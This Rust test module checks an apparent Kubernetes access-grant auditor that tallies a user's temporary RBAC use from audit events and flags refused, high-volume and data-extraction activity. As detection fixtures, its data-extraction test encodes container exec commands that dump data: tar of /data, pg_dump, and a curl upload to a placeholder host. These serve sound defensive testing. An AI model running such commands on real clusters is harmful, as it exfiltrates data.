use super::*;
use serde_json::{Value, json};

const MANY: usize = 300;

fn at(time: &str) -> DateTime<Utc> {
    format!("2026-12-01T{time}Z").parse().unwrap()
}
fn holder() -> Holder {
    Holder {
        grant: "billing.sup-4812.7f3a2c1b".into(),
        namespace: "billing".into(),
        binding: "curfew-sup-4812-7f3a2c1b".into(),
        user: "alice".into(),
        started_at: Some(at("09:00:00")),
        expires_at: at("09:30:00"),
    }
}
fn ledger() -> Ledger {
    let mut ledger = Ledger::default();
    ledger.holds(holder());
    ledger
}
/// An event as kube-apiserver 1.37 writes it, with these fields replaced.
fn event(id: &str, changes: Value) -> Event {
    let mut event = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
        "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/billing/pods/web-1/log?container=web",
        "verb": "get", "user": {"username": "alice", "groups": ["support", "system:authenticated"]},
        "sourceIPs": ["10.0.0.7"], "userAgent": "kubectl/v1.37.0",
        "objectRef": {"resource": "pods", "namespace": "billing", "name": "web-1", "apiVersion": "v1", "subresource": "log"},
        "responseStatus": {"metadata": {}, "code": 200}, "requestReceivedTimestamp": "2026-12-01T09:10:00.123456Z",
        "stageTimestamp": "2026-12-01T09:10:00.125000Z",
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason":
            "RBAC: allowed by RoleBinding \"curfew-sup-4812-7f3a2c1b/billing\" of ClusterRole \"curfew-logs\" to User \"alice\""}});
    event.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
    Event::read(event.to_string().as_bytes()).unwrap()
}
fn forbidden(id: &str, changes: Value) -> Event {
    let mut all = json!({"verb": "delete", "objectRef": {"resource": "deployments", "apiGroup": "apps", "namespace": "billing"},
        "responseStatus": {"code": 403}, "annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}});
    all.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
    event(id, all)
}
/// The record after these events, all taken at 09:20.
fn after(events: &[Event]) -> AccessGrantStatus {
    let (mut ledger, mut status) = (ledger(), AccessGrantStatus::default());
    for event in events {
        ledger.take(event, MANY, at("09:20:00"));
    }
    write(&mut ledger, &mut status, "09:20:00");
    status
}
fn write(ledger: &mut Ledger, status: &mut AccessGrantStatus, time: &str) -> usize {
    let due = ledger.due(at(time));
    let now = Now { wall: at(time), server_ahead: TimeDelta::zero() };
    for (_, tally) in &due {
        Watch { tally: Some(tally), ..Watch::default() }.write(status, now);
    }
    due.len()
}
fn flags(events: &[Event]) -> Vec<(FlagType, String)> {
    after(events).flags.into_iter().map(|flag| (flag.type_, flag.message)).collect()
}

#[test]
fn j7_what_was_done_is_counted_whatever_the_order_of_its_events() {
    let late = event(
        "b",
        json!({"requestReceivedTimestamp": "2026-12-01T09:05:00Z", "verb": "list",
        "requestURI": "/api/v1/namespaces/billing/pods?limit=500", "objectRef": {"resource": "pods", "namespace": "billing"}}),
    );
    let status = after(&[event("a", json!({})), late, event("a", json!({"stage": "ResponseComplete"}))]);
    let usage = status.usage.unwrap();
    assert_eq!((usage.count, usage.verbs), (2, vec!["get pods/log".to_owned(), "list pods".to_owned()]), "none twice");
    assert_eq!(usage.first_seen.to_string(), "2026-12-01T09:05:00Z");
    assert_eq!(usage.last_seen.to_string(), "2026-12-01T09:10:00Z");
    assert!(status.flags.is_empty(), "{:?}", status.flags);
}

#[test]
fn j6_only_what_its_binding_allowed_its_person_is_counted() {
    let reason = |words: &str| json!({"annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": words}});
    let own = "RBAC: allowed by RoleBinding \"curfew-sup-4812-7f3a2c1b/billing\" of ClusterRole \"curfew-logs\" to User \"alice\"";
    let rows = [
        ("by their binding", reason(own), true),
        (
            "by another binding",
            reason("RBAC: allowed by RoleBinding \"by-hand/billing\" of Role \"r\" to User \"alice\""),
            false,
        ),
        ("in another namespace", reason(&own.replace("/billing", "/shop")), false),
        (
            "by a ClusterRoleBinding",
            reason("RBAC: allowed by ClusterRoleBinding \"curfew-sup-4812-7f3a2c1b/billing\" of"),
            false,
        ),
        ("a reason that only names it", reason(&format!("because of {own}")), false),
        ("cut off", reason("RBAC: allowed by RoleBinding \"curfew-sup-4812-7f3a2c1b/bill"), false),
        ("not judged yet", json!({"annotations": {}}), false),
        (
            "refused",
            json!({"annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": own}}),
            false,
        ),
        ("somebody else", json!({"user": {"username": "mallory"}}), false),
        ("who acts as them", json!({"user": {"username": "admin"}, "impersonatedUser": {"username": "alice"}}), true),
        ("they act as another", json!({"impersonatedUser": {"username": "bob"}}), false),
    ];
    for (words, changes, counted) in rows {
        assert_eq!(after(&[event("a", changes)]).usage.is_some(), counted, "{words}");
    }
    let no_event =
        ["", "{", "[]", "null", "7", "{}", r#"{"auditID": 7, "verb": "get"}"#, r#"{"kind": "Event", "auditID": "a"}"#];
    for line in no_event {
        assert!(Event::read(line.as_bytes()).is_none(), "{line}");
    }
}

#[test]
fn j7_no_event_moves_use_out_of_the_window_or_ahead_of_now() {
    for (received, seen) in [
        (json!("2099-01-01T00:00:00Z"), "2026-12-01T09:20:00Z"),
        (json!("2001-01-01T00:00:00Z"), "2026-12-01T09:00:00Z"),
        (json!("yesterday"), "2026-12-01T09:20:00Z"),
        (json!(null), "2026-12-01T09:20:00Z"),
    ] {
        let usage = after(&[event("a", json!({"requestReceivedTimestamp": received}))]).usage.unwrap();
        assert_eq!(
            (usage.first_seen.to_string(), usage.last_seen.to_string()),
            (seen.into(), seen.into()),
            "{received}"
        );
    }
}

#[test]
fn j7_what_is_kept_is_bounded_and_holds_nothing_but_names() {
    let resource = |n: usize| json!({"objectRef": {"resource": format!("r{n}\n\"PII\"{}", "x".repeat(300)), "namespace": "billing"}});
    let events: Vec<_> = (0..100).map(|n| event(&n.to_string(), resource(n))).collect();
    let usage = after(&events).usage.unwrap();
    assert_eq!((usage.count, usage.verbs.len()), (100, MOST_VERBS));
    assert!(
        usage.verbs.iter().all(|verb| verb.chars().count() <= 128 && !verb.contains(['\n', '"'])),
        "{:?}",
        usage.verbs
    );
    let mut ledger = ledger();
    for n in 0..REMEMBERED + 100 {
        ledger.take(&event(&n.to_string(), json!({})), MANY, at("09:20:00"));
    }
    assert_eq!((ledger.seen.len(), ledger.order.len()), (REMEMBERED, REMEMBERED));
}

#[test]
fn j7_one_record_is_written_once_in_ten_seconds_and_never_without_news() {
    let (mut ledger, mut status) = (ledger(), AccessGrantStatus::default());
    ledger.take(&event("a", json!({})), MANY, at("09:20:00"));
    assert_eq!(write(&mut ledger, &mut status, "09:20:00"), 1);
    ledger.take(&event("b", json!({})), MANY, at("09:20:01"));
    assert_eq!(write(&mut ledger, &mut status, "09:20:09"), 0, "not so soon");
    assert_eq!(write(&mut ledger, &mut status, "09:20:10"), 1);
    assert_eq!(write(&mut ledger, &mut status, "09:29:00"), 0, "nothing happened");
    assert_eq!(status.usage.as_ref().unwrap().count, 2);
    ledger.take(&event("c", json!({})), MANY, at("09:29:30"));
    let (grant, tally) = ledger.due(at("09:29:30")).pop().unwrap();
    ledger.take(&event("d", json!({})), MANY, at("09:29:31"));
    ledger.put_back(&grant, tally);
    assert_eq!(write(&mut ledger, &mut status, "09:39:40"), 1, "what could not be written comes with what came since");
    assert_eq!(status.usage.unwrap().count, 4);
    assert_eq!(write(&mut ledger, &mut AccessGrantStatus::default(), "09:41:00"), 0);
    assert!(ledger.accounts.is_empty() && ledger.by_binding.is_empty(), "what ended long ago is forgotten");
}

#[test]
fn k4_what_its_person_tried_beyond_it_is_flagged() {
    let said = flags(&[forbidden("a", json!({})), forbidden("b", json!({"verb": "get"}))]);
    let words = "alice tried to delete deployments.apps in billing and was refused".to_owned();
    assert_eq!(said, [(FlagType::RefusedCalls, words)], "the first of them, once");
    for (words, changes) in [
        ("elsewhere", json!({"objectRef": {"resource": "pods", "namespace": "shop"}})),
        ("in no namespace", json!({"objectRef": {"resource": "nodes"}})),
        ("somebody else", json!({"user": {"username": "bob"}})),
        ("before it began", json!({"requestReceivedTimestamp": "2026-12-01T08:59:59Z"})),
        ("after its end", json!({"requestReceivedTimestamp": "2026-12-01T09:30:01Z"})),
        (
            "refused by admission",
            json!({"annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"x\" of"}}),
        ),
    ] {
        assert_eq!(flags(&[forbidden("a", changes)]), [], "{words}");
    }
    let mut ended = ledger();
    ended.ended("billing.sup-4812.7f3a2c1b", at("09:05:00"));
    assert!(!ended.take(&forbidden("a", json!({})), MANY, at("09:20:00")), "it was closed before");
}

#[test]
fn k3_very_many_calls_in_one_minute_are_flagged() {
    let in_minute = |second: usize, n: usize| {
        event(&format!("{second}-{n}"), json!({"requestReceivedTimestamp": format!("2026-12-01T09:10:{second:02}Z")}))
    };
    let all: Vec<_> = (0..MANY).map(|n| in_minute(n % 60, n)).collect();
    assert_eq!(flags(&all), [], "as many as are usual");
    let more = [all.clone(), vec![in_minute(59, MANY)]].concat();
    let words = "more than 300 calls in the minute of 2026-12-01T09:10Z".to_owned();
    assert_eq!(flags(&more), [(FlagType::HighVolume, words)]);
    let next = event("next", json!({"requestReceivedTimestamp": "2026-12-01T09:11:00Z"}));
    assert_eq!(flags(&[all, vec![next]].concat()), [], "each minute for itself");
}

#[test]
fn k2_taking_data_out_is_flagged() {
    let object = |resource: &str, subresource: &str| json!({"resource": resource, "namespace": "billing", "subresource": subresource});
    let exec = |query: &str| {
        let uri = format!("/api/v1/namespaces/billing/pods/web-1/exec?{query}&container=web&stdin=true");
        json!({"verb": "get", "requestURI": uri, "objectRef": object("pods", "exec")})
    };
    let list = |query: &str| json!({"verb": "list", "requestURI": format!("/api/v1/namespaces/billing/pods{query}"), "objectRef": object("pods", "")});
    let rows = [
        ("a Secret", json!({"objectRef": object("secrets", "")}), Some("read Secrets")),
        ("a Secret is made", json!({"verb": "create", "objectRef": object("secrets", "")}), None),
        (
            "somebody else's secrets",
            json!({"objectRef": {"resource": "secrets", "apiGroup": "vault.example.com", "namespace": "billing"}}),
            None,
        ),
        ("kubectl cp", exec("command=tar&command=cf&command=-&command=%2Fdata"), Some("ran tar in a container")),
        ("by its path", exec("command=%2Fusr%2Fbin%2Fpg_dump&command=billing"), Some("ran pg_dump in a container")),
        (
            "in a script",
            exec("command=sh&command=-c&command=echo+hi%3Bcurl%20-T+-+https%3A%2F%2Fx"),
            Some("ran curl in a container"),
        ),
        ("a shell", exec("command=%2Fbin%2Fsh"), None),
        ("no tool of that name", exec("command=target&command=guitar"), None),
        ("half a percent sign", exec("command=%&command=%2&command=%zz"), None),
        ("as kubectl lists", list("?limit=500"), None),
        ("of some", list("?labelSelector=app%3Dweb"), None),
        ("as a cache begins", list("?resourceVersion=0"), None),
        ("all of them", list(""), Some("a very wide list pods")),
        ("without a bound", list("?limit=0"), Some("a very wide list pods")),
        ("very many", list("?limit=5000"), Some("a very wide list pods")),
    ];
    for (words, changes, found) in rows {
        let said = flags(&[event("a", changes)]);
        assert_eq!(said.first().map(|(_, message)| message.as_str()), found, "{words}");
        assert!(said.iter().all(|(type_, _)| *type_ == FlagType::DataExtraction), "{words}");
    }
    let pages: Vec<_> = (0..5).map(|n| event(&n.to_string(), list("?limit=500&continue=ey"))).collect();
    assert_eq!((flags(&pages[..4]).len(), flags(&pages).len()), (0, 1), "page after page");
}

#[test]
fn e15_what_nobody_uses_ends_only_while_somebody_watches() {
    let grant = |status: Value| -> AccessGrant {
        serde_json::from_value(json!({"metadata": {"name": "g"}, "spec": {"request": {"namespace": "billing", "name": "sup-4812", "uid": "u", "generation": 1},
            "policy": {"name": "p", "uid": "p", "generation": 1, "description": "", "retentionDays": 400}, "outcome": "Approved", "user": "alice",
            "entitledBy": {"kind": "Group", "name": "support"}, "namespace": "billing", "access": "logs", "level": "ReadOnly",
            "roleRef": {"kind": "ClusterRole", "name": "curfew-logs"}, "rules": [], "rulesSha256": "", "ticket": "t", "reason": "r", "askedFor": "1h",
            "notBefore": "2026-12-01T09:00:00Z", "expiresAt": "2026-12-01T10:00:00Z", "unusedAfter": "15m"}, "status": status}))
        .unwrap()
    };
    let begun = json!({"startedAt": "2026-12-01T09:00:00Z"});
    let used = json!({"startedAt": "2026-12-01T09:00:00Z", "usage": {"firstSeen": "2026-12-01T09:01:00Z", "lastSeen": "2026-12-01T09:10:00Z", "count": 2}});
    let since = |time: &str| Audit::Delivers { since: at(time) };
    for (words, status, audit, last, ends) in [
        ("since its start", &begun, since("08:00:00"), None, Some("09:15:00")),
        ("since its last use", &used, since("08:00:00"), None, Some("09:25:00")),
        ("since a use that is not on record yet", &used, since("08:00:00"), Some("09:12:00"), Some("09:27:00")),
        ("since somebody watches again", &begun, since("09:09:00"), None, Some("09:24:00")),
        ("it has not begun", &json!({}), since("08:00:00"), None, None),
        ("nothing arrives", &begun, Audit::Silent, None, None),
        ("there is no source", &begun, Audit::Absent, None, None),
    ] {
        let watch = Watch::of(audit, last.map(at));
        assert_eq!(watch.unused_at(&grant(status.clone())), ends.map(at), "{words}");
    }
    let mut other = grant(begun);
    other.spec.unused_after = None;
    assert_eq!(Watch::of(since("08:00:00"), None).unused_at(&other), None, "its policy does not say so");
}

#[test]
fn j7_what_is_written_later_neither_moves_the_first_use_nor_exceeds_the_bound() {
    let (mut ledger, mut status) = (ledger(), AccessGrantStatus::default());
    let of = |id: usize, time: &str| {
        let resource = json!({"resource": format!("kind{id:02}"), "namespace": "billing"});
        event(
            &id.to_string(),
            json!({"objectRef": resource, "requestReceivedTimestamp": format!("2026-12-01T{time}Z")}),
        )
    };
    for id in 0..MOST_VERBS {
        ledger.take(&of(id, "09:05:00"), MANY, at("09:05:00"));
    }
    assert_eq!(write(&mut ledger, &mut status, "09:05:00"), 1);
    ledger.take(&of(99, "09:10:00"), MANY, at("09:10:00"));
    assert_eq!(write(&mut ledger, &mut status, "09:10:00"), 1);
    let usage = status.usage.unwrap();
    assert_eq!(
        (usage.first_seen.to_string(), usage.last_seen.to_string()),
        ("2026-12-01T09:05:00Z".into(), "2026-12-01T09:10:00Z".into())
    );
    assert_eq!(usage.verbs.len(), MOST_VERBS, "{:?}", usage.verbs);
}

#[test]
fn k4_what_something_else_than_rbac_refused_is_not_flagged() {
    let refused = |code: u16| flags(&[forbidden("a", json!({"responseStatus": {"code": code}}))]).len();
    assert_eq!((refused(403), refused(404)), (1, 0));
}
